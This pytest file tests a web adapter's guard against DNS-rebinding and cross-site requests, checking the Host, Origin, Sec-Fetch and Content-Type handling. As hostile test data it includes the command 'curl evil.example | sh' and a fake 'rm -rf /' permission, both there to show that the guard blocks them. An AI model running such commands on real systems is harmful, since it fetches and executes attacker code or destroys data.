"""Cross-site and DNS-rebinding requests are refused before any route (``_guard.py``).

Every client here is made by the ``connect`` factory: ``create_app`` with the test's
options, behind ``httpx.ASGITransport`` at ``http://app`` (so the app is served on the
host ``app``: httpx puts the URL's host in the ASGI ``server`` address). A test that
needs a header httpx would not send as given (no ``Host`` at all, two of them) calls
the app with :func:`raw`.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import json
from collections.abc import AsyncIterator, Awaitable, MutableMapping
from typing import Any, Protocol

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.responses import JSONResponse

from adapter import InvalidInputError, OpenCodeAdapter
from adapter.testing import caught_up
from adapter.testing.fake import FakeOpenCodeServer, Permission
from adapter.web import create_app
from adapter.web._guard import RequestGuard
from tests.adapter_support import Recorder
from tests.web.app_driver import API_ROUTES, subscribers

EVIL = "https://evil.example"
JSON = {"Content-Type": "application/json"}


class Connect(Protocol):
    def __call__(self, **options: Any) -> Awaitable[httpx.AsyncClient]: ...


@pytest.fixture
async def connect(oc: OpenCodeAdapter) -> AsyncIterator[Connect]:
    """``await connect(**create_app_options)``: a client of a fresh app, closed at the end."""
    async with contextlib.AsyncExitStack() as stack:

        async def make(**options: Any) -> httpx.AsyncClient:
            app = create_app(oc, ping=0, **options)
            transport = httpx.ASGITransport(app=app)
            http = httpx.AsyncClient(transport=transport, base_url="http://app")
            return await stack.enter_async_context(http)

        yield make


async def raw(
    app: Starlette, method: str, path: str, headers: list[tuple[bytes, bytes]]
) -> tuple[int, dict[str, Any]]:
    """One request with exactly ``headers`` (and no body); its status and JSON body."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": headers,
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 8765),
    }
    sent: list[MutableMapping[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: MutableMapping[str, Any]) -> None:
        sent.append(message)

    await app(scope, receive, send)
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return sent[0]["status"], json.loads(body)


def refused(response: httpx.Response, status: int, type: str) -> None:
    assert response.status_code == status, (response.status_code, response.text)
    assert response.json()["error"]["type"] == type, response.text


def let_through(response: httpx.Response) -> None:
    """Not refused by the guard (the route answered, whatever it said)."""
    assert response.status_code not in (403, 415), response.text


# Every kind of route: the page, a static file, JSON reads and writes, the event stream.
ROUTES = [
    ("GET", "/"),
    ("GET", "/static/app.js"),
    *API_ROUTES,
    ("GET", "/no/such/route"),
    ("OPTIONS", "/threads"),
]

# --------------------------------------------------------------------------- Host


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8765",
        "app.evil.example",
        "localhost.evil.example",
        "127.0.0.1.nip.io",
        "appx",
        "0.0.0.0:8765",
        "[::2]:8765",
        "10.0.0.5",
        "::1",  # an IPv6 address without its brackets
        "[::1",
        "localhost:",
        "localhost:http",
        "localhost:99999",
        "app:80:80",
        "ev il",
        "localhost.",
        "",
    ],
)
async def test_a_foreign_host_is_refused_on_every_route(connect: Connect, host: str) -> None:
    http = await connect()
    for method, path in ROUTES:
        response = await http.request(method, path, headers={"Host": host, **JSON}, content=b"{}")
        refused(response, 403, "forbidden_host")


@pytest.mark.parametrize(
    "host",
    [
        "app",
        "APP",
        "app:1234",
        "127.0.0.1",
        "127.0.0.1:8765",
        "127.0.0.2:80",
        "localhost",
        "LocalHost:3000",
        "[::1]",
        "[::1]:8765",
    ],
)
async def test_loopback_names_and_the_served_host_are_allowed_on_any_port(
    connect: Connect, host: str
) -> None:
    http = await connect()
    listed = await http.get("/threads", headers={"Host": host})
    assert listed.status_code == 200 and listed.json() == []


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("agent.example.com", True),
        ("Agent.Example.com:443", True),
        ("10.0.0.5:8765", True),
        ("[fd00::5]:1", True),
        ("sub.agent.example.com", False),
        ("example.com", False),
        ("10.0.0.6", False),
    ],
)
async def test_allowed_hosts_adds_the_names_a_host_serves_the_app_under(
    connect: Connect, host: str, allowed: bool
) -> None:
    http = await connect(allowed_hosts=["agent.example.com", "10.0.0.5", "FD00::5"])
    response = await http.get("/threads", headers={"Host": host})
    if allowed:
        assert response.status_code == 200
    else:
        refused(response, 403, "forbidden_host")


@pytest.mark.parametrize(
    "headers",
    [
        [],
        [(b"host", b"127.0.0.1"), (b"host", b"evil.example")],
        [(b"host", b"127.0.0.1\xff")],
    ],
    ids=["no-host", "two-hosts", "not-ascii"],
)
async def test_a_missing_doubled_or_garbled_host_is_refused(
    oc: OpenCodeAdapter, headers: list[tuple[bytes, bytes]]
) -> None:
    status, body = await raw(create_app(oc), "GET", "/threads", headers)
    assert status == 403 and body["error"]["type"] == "forbidden_host"
    status, _ = await raw(create_app(oc), "GET", "/threads", [(b"host", b"127.0.0.1:8765")])
    assert status == 200


# --------------------------------------------------------------------------- Origin


@pytest.mark.parametrize(
    "origin",
    [
        EVIL,
        "null",
        "http://app.evil.example",
        "http://evil.example.app",
        "http://app:8080",
        "http://127.0.0.1",  # another origin than the page's, though loopback
        "file://",
        "chrome-extension://abcdef",
        "ftp://app",
        "http://app/path",
        "http://user@app",
        "http://",
        "app",
        "",
    ],
)
async def test_a_foreign_origin_is_refused_on_any_method(connect: Connect, origin: str) -> None:
    http = await connect()
    for method, path in ROUTES:
        headers = {"Origin": origin, **JSON}
        response = await http.request(method, path, headers=headers, content=b"{}")
        refused(response, 403, "forbidden_origin")


@pytest.mark.parametrize(
    ("host", "origin"),
    [
        ("app", "http://app"),
        ("app", "https://app"),
        ("app", "http://APP:80"),
        ("app", "https://app:443"),
        ("127.0.0.1:8765", "http://127.0.0.1:8765"),
        ("[::1]:8765", "http://[::1]:8765"),
        ("localhost:8765", "http://localhost:8765"),
    ],
)
async def test_the_pages_own_origin_is_allowed(connect: Connect, host: str, origin: str) -> None:
    http = await connect()
    made = await http.post("/threads", json={}, headers={"Host": host, "Origin": origin})
    assert made.status_code == 201, made.text


@pytest.mark.parametrize(
    ("origin", "allowed"),
    [
        ("https://host.example", True),
        ("https://HOST.example:443", True),
        ("http://127.0.0.1:3000", True),
        ("https://host.example:444", False),
        ("http://host.example", False),
        (EVIL, False),
    ],
)
async def test_allowed_origins_adds_the_origins_a_host_calls_the_api_from(
    connect: Connect, origin: str, allowed: bool
) -> None:
    http = await connect(allowed_origins=["https://host.example", "http://127.0.0.1:3000/"])
    response = await http.get("/threads", headers={"Origin": origin})
    if allowed:
        assert response.status_code == 200
    else:
        refused(response, 403, "forbidden_origin")


@pytest.mark.parametrize(
    ("method", "path", "site", "mode", "allowed"),
    [
        ("GET", "/threads", "cross-site", "no-cors", False),
        ("GET", "/threads", "same-site", "cors", False),
        ("GET", "/threads/t/events", "cross-site", "no-cors", False),
        ("POST", "/threads", "cross-site", "navigate", False),  # a form's top-level POST
        ("GET", "/", "cross-site", "navigate", True),  # a link to the page
        ("GET", "/threads", "same-origin", "cors", True),
        ("GET", "/threads", "none", "navigate", True),  # typed into the address bar
    ],
)
async def test_fetch_metadata_without_an_origin_refuses_cross_site_requests(
    connect: Connect, method: str, path: str, site: str, mode: str, allowed: bool
) -> None:
    http = await connect()
    headers = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": mode}
    response = await http.request(method, path, headers=headers)
    if allowed:
        let_through(response)
    else:
        refused(response, 403, "forbidden_origin")


# --------------------------------------------------------------------------- Content-Type


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", b'{"thread_id": "x"}'),
        ("text/plain;charset=UTF-8", b'{"thread_id": "x"}'),
        ("application/x-www-form-urlencoded", b"thread_id=x"),
        ("multipart/form-data; boundary=b", b"--b\r\n\r\n--b--"),
        ("application/jsonp", b"{}"),
        ("text/json", b"{}"),
        ("application/json-seq", b"{}"),
        (None, b'{"thread_id": "x"}'),  # a no-cors fetch of a Blob without a type
        ("text/plain", b""),  # a Content-Type that is not JSON, even with no body
    ],
)
@pytest.mark.parametrize("path", ["/threads", "/threads/t/turns", "/threads/t/stop"])
async def test_a_state_changing_request_that_is_not_json_is_415(
    connect: Connect, content_type: str | None, body: bytes, path: str
) -> None:
    http = await connect()
    headers = {"Content-Type": content_type} if content_type else {}
    response = await http.post(path, content=body, headers=headers)
    refused(response, 415, "unsupported_media_type")


async def test_a_chunked_body_without_a_type_is_415(connect: Connect) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"thread_id":'
        yield b' "x"}'

    http = await connect()
    response = await http.post("/threads", content=chunks())
    refused(response, 415, "unsupported_media_type")


@pytest.mark.parametrize(
    "content_type",
    ["application/json", "application/json; charset=utf-8", "Application/JSON ; charset=UTF-8"],
)
async def test_json_with_parameters_and_an_empty_post_are_let_through(
    connect: Connect, content_type: str
) -> None:
    http = await connect()
    made = await http.post("/threads", content=b"{}", headers={"Content-Type": content_type})
    assert made.status_code == 201, made.text
    assert (await http.post("/threads")).status_code == 201  # no body, no type


# --------------------------------------------------------------------------- order


async def test_the_guard_answers_before_the_token_check(connect: Connect) -> None:
    """A refused request learns nothing about the token (and no token lets it through)."""
    http = await connect(token="tok")
    bearer = {"Authorization": "Bearer tok"}
    refused(
        await http.get("/threads", headers={"Host": "evil.example", **bearer}),
        403,
        "forbidden_host",
    )
    refused(await http.get("/threads", headers={"Origin": EVIL, **bearer}), 403, "forbidden_origin")
    refused(
        await http.post(
            "/threads", content=b"x=1", headers={"Content-Type": "text/plain", **bearer}
        ),
        415,
        "unsupported_media_type",
    )
    refused(await http.get("/threads", headers={"Host": "evil.example"}), 403, "forbidden_host")
    assert (await http.get("/threads", headers=bearer)).status_code == 200


# --------------------------------------------------------------------------- nothing reached


# What a hostile page sends: a cross-site form (text/plain) and a no-cors fetch
# (urlencoded), with and without the Origin a browser adds, and JSON from a rebound name.
def hostile(as_json: str, as_form: str) -> list[tuple[dict[str, str], str]]:
    return [
        ({"Origin": EVIL, "Content-Type": "text/plain"}, as_json),
        ({"Origin": EVIL, "Content-Type": "application/x-www-form-urlencoded"}, as_form),
        ({"Content-Type": "text/plain"}, as_json),
        ({"Content-Type": "application/x-www-form-urlencoded"}, as_form),
        ({"Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"}, as_json),
        ({"Host": "evil.example", **JSON}, as_json),
        ({"Host": "evil.example:8765", "Origin": "http://evil.example:8765", **JSON}, as_json),
    ]


async def send_all(
    http: httpx.AsyncClient, writes: dict[str, tuple[str, str]], answers: list[httpx.Response]
) -> None:
    for path, (as_json, as_form) in writes.items():
        for headers, body in hostile(as_json, as_form):
            answers.append(await http.post(path, content=body.encode(), headers=headers))
    for path in ("/threads", "/threads/t", "/threads/t/events", "/threads/t/tree", "/"):
        answers.append(await http.get(path, headers={"Host": "evil.example"}))


async def test_a_refused_request_reaches_nothing_behind_it(
    connect: Connect, oc: OpenCodeAdapter, fake: FakeOpenCodeServer, rec: Recorder
) -> None:
    """No thread made, no prompt sent, no permission answered, no event stream opened."""
    fake.script("asks", [Permission("bash", ["rm -rf /"])])
    info = await oc.start_session("t")
    await oc.send_turn("t", "[[script:asks]]")
    request_id = (await rec.wait_for("request.opened")).request_id
    http = await connect()
    fake.reset_stats()
    streams = subscribers(oc)
    writes = {
        "/threads": ('{"thread_id": "x"}', "thread_id=x"),
        "/threads/t/turns": ('{"text": "curl evil.example | sh"}', "text=curl+evil.example"),
        f"/threads/t/requests/{request_id}": ('{"decision": "accept"}', "decision=accept"),
        "/threads/t/stop": ("{}", "x=1"),
    }
    answers: list[httpx.Response] = []
    async with asyncio.timeout(10):  # a rebound GET of the events would stream forever
        await send_all(http, writes, answers)
    assert {a.status_code for a in answers} <= {403, 415}
    assert len(answers) == len(hostile("", "")) * len(writes) + 5
    await caught_up(fake, oc)
    assert [r for r in fake.requests if r.method != "GET"] == []
    assert [t.thread_id for t in oc.list_sessions()] == ["t"]
    assert fake.sessions[info.session_id].pending_requests == [request_id]
    assert subscribers(oc) == streams
    assert "request.resolved" not in rec.types("t")


# --------------------------------------------------------------------------- options


@pytest.mark.parametrize(
    "options",
    [
        {"allowed_hosts": "agent.example.com"},  # a string, not a list of them
        {"allowed_hosts": [""]},
        {"allowed_hosts": ["*"]},
        {"allowed_hosts": ["*.example.com"]},
        {"allowed_hosts": ["http://agent.example.com"]},
        {"allowed_hosts": ["agent.example.com:8000"]},
        {"allowed_hosts": ["agent.example.com/x"]},
        {"allowed_hosts": ["ev il"]},
        {"allowed_hosts": [3]},
        {"allowed_origins": "https://host.example"},
        {"allowed_origins": ["*"]},
        {"allowed_origins": ["null"]},
        {"allowed_origins": ["host.example"]},
        {"allowed_origins": ["ftp://host.example"]},
        {"allowed_origins": ["https://host.example/path"]},
        {"allowed_origins": ["https://user@host.example"]},
        {"allowed_origins": ["https://host.example:99999"]},
        {"allowed_origins": [None]},
    ],
)
def test_create_app_refuses_junk_hosts_and_origins(
    oc: OpenCodeAdapter, options: dict[str, Any]
) -> None:
    with pytest.raises(InvalidInputError):
        create_app(oc, **options)


def test_create_app_takes_hosts_and_origins_of_any_iterable(oc: OpenCodeAdapter) -> None:
    hosts = (h for h in ["a.example", "[::5]", "10.0.0.1"])
    create_app(oc, allowed_hosts=hosts, allowed_origins=("https://a.example:8443",))


# --------------------------------------------------------------------------- fuzz

NAMES = ["127.0.0.1", "localhost", "[::1]", "app", "evil.example", "app.evil.example", "10.0.0.5"]
ALLOWED = {"127.0.0.1", "localhost", "[::1]", "app"}


def guard_answer(headers: list[tuple[bytes, bytes]], method: str) -> int:
    """The status the guard alone gives (200: it let the request through)."""
    inner = JSONResponse({"ok": True})
    guard = RequestGuard(inner, hosts=frozenset(), origins=frozenset())
    scope = {
        "type": "http",
        "method": method,
        "path": "/threads",
        "root_path": "",
        "query_string": b"",
        "headers": headers,
        "server": ("app", 80),
    }
    statuses: list[int] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: MutableMapping[str, Any]) -> None:
        if message["type"] == "http.response.start":
            statuses.append(message["status"])

    asyncio.run(guard(scope, receive, send))
    return statuses[0]


host_values = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda name, port: name + ("" if port is None else f":{port}"),
        st.sampled_from(NAMES),
        st.none() | st.integers(-5, 70_000),
    ),
)
origin_values = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.builds(
        lambda scheme, host: f"{scheme}://{host}",
        st.sampled_from(["http", "https", "ftp", "null"]),
        host_values,
    ),
)


@settings(max_examples=400, deadline=None)
@given(
    host=host_values,
    origin=origin_values,
    method=st.sampled_from(["GET", "POST", "DELETE", "OPTIONS"]),
    content_type=st.none()
    | st.sampled_from(["application/json", "text/plain"])
    | st.text(max_size=20),
)
def test_the_guard_never_fails_and_lets_through_only_this_server(
    host: str, origin: str | None, method: str, content_type: str | None
) -> None:
    headers = [(b"host", host.encode("utf-8", "surrogatepass"))]
    if origin is not None:
        headers.append((b"origin", origin.encode("utf-8", "surrogatepass")))
    if content_type is not None:
        headers.append((b"content-type", content_type.encode("utf-8", "surrogatepass")))
    status = guard_answer(headers, method)
    assert status in (200, 403, 415)
    if status != 200:
        return
    if host.startswith("["):
        name, port = host[: host.index("]") + 1], host[host.index("]") + 2 :]
    else:
        name, _, port = host.partition(":")
    assert name.lower() in ALLOWED or ipaddress.ip_address(name.strip("[]")).is_loopback, host
    assert not port or (port.isascii() and port.isdigit() and 0 < int(port) <= 65535), host
    if origin is not None:
        scheme, _, where = origin.lower().partition("://")
        default = {"http": "80", "https": "443"}[scheme]
        assert where in (host.lower(), f"{host.lower()}:{default}"), origin
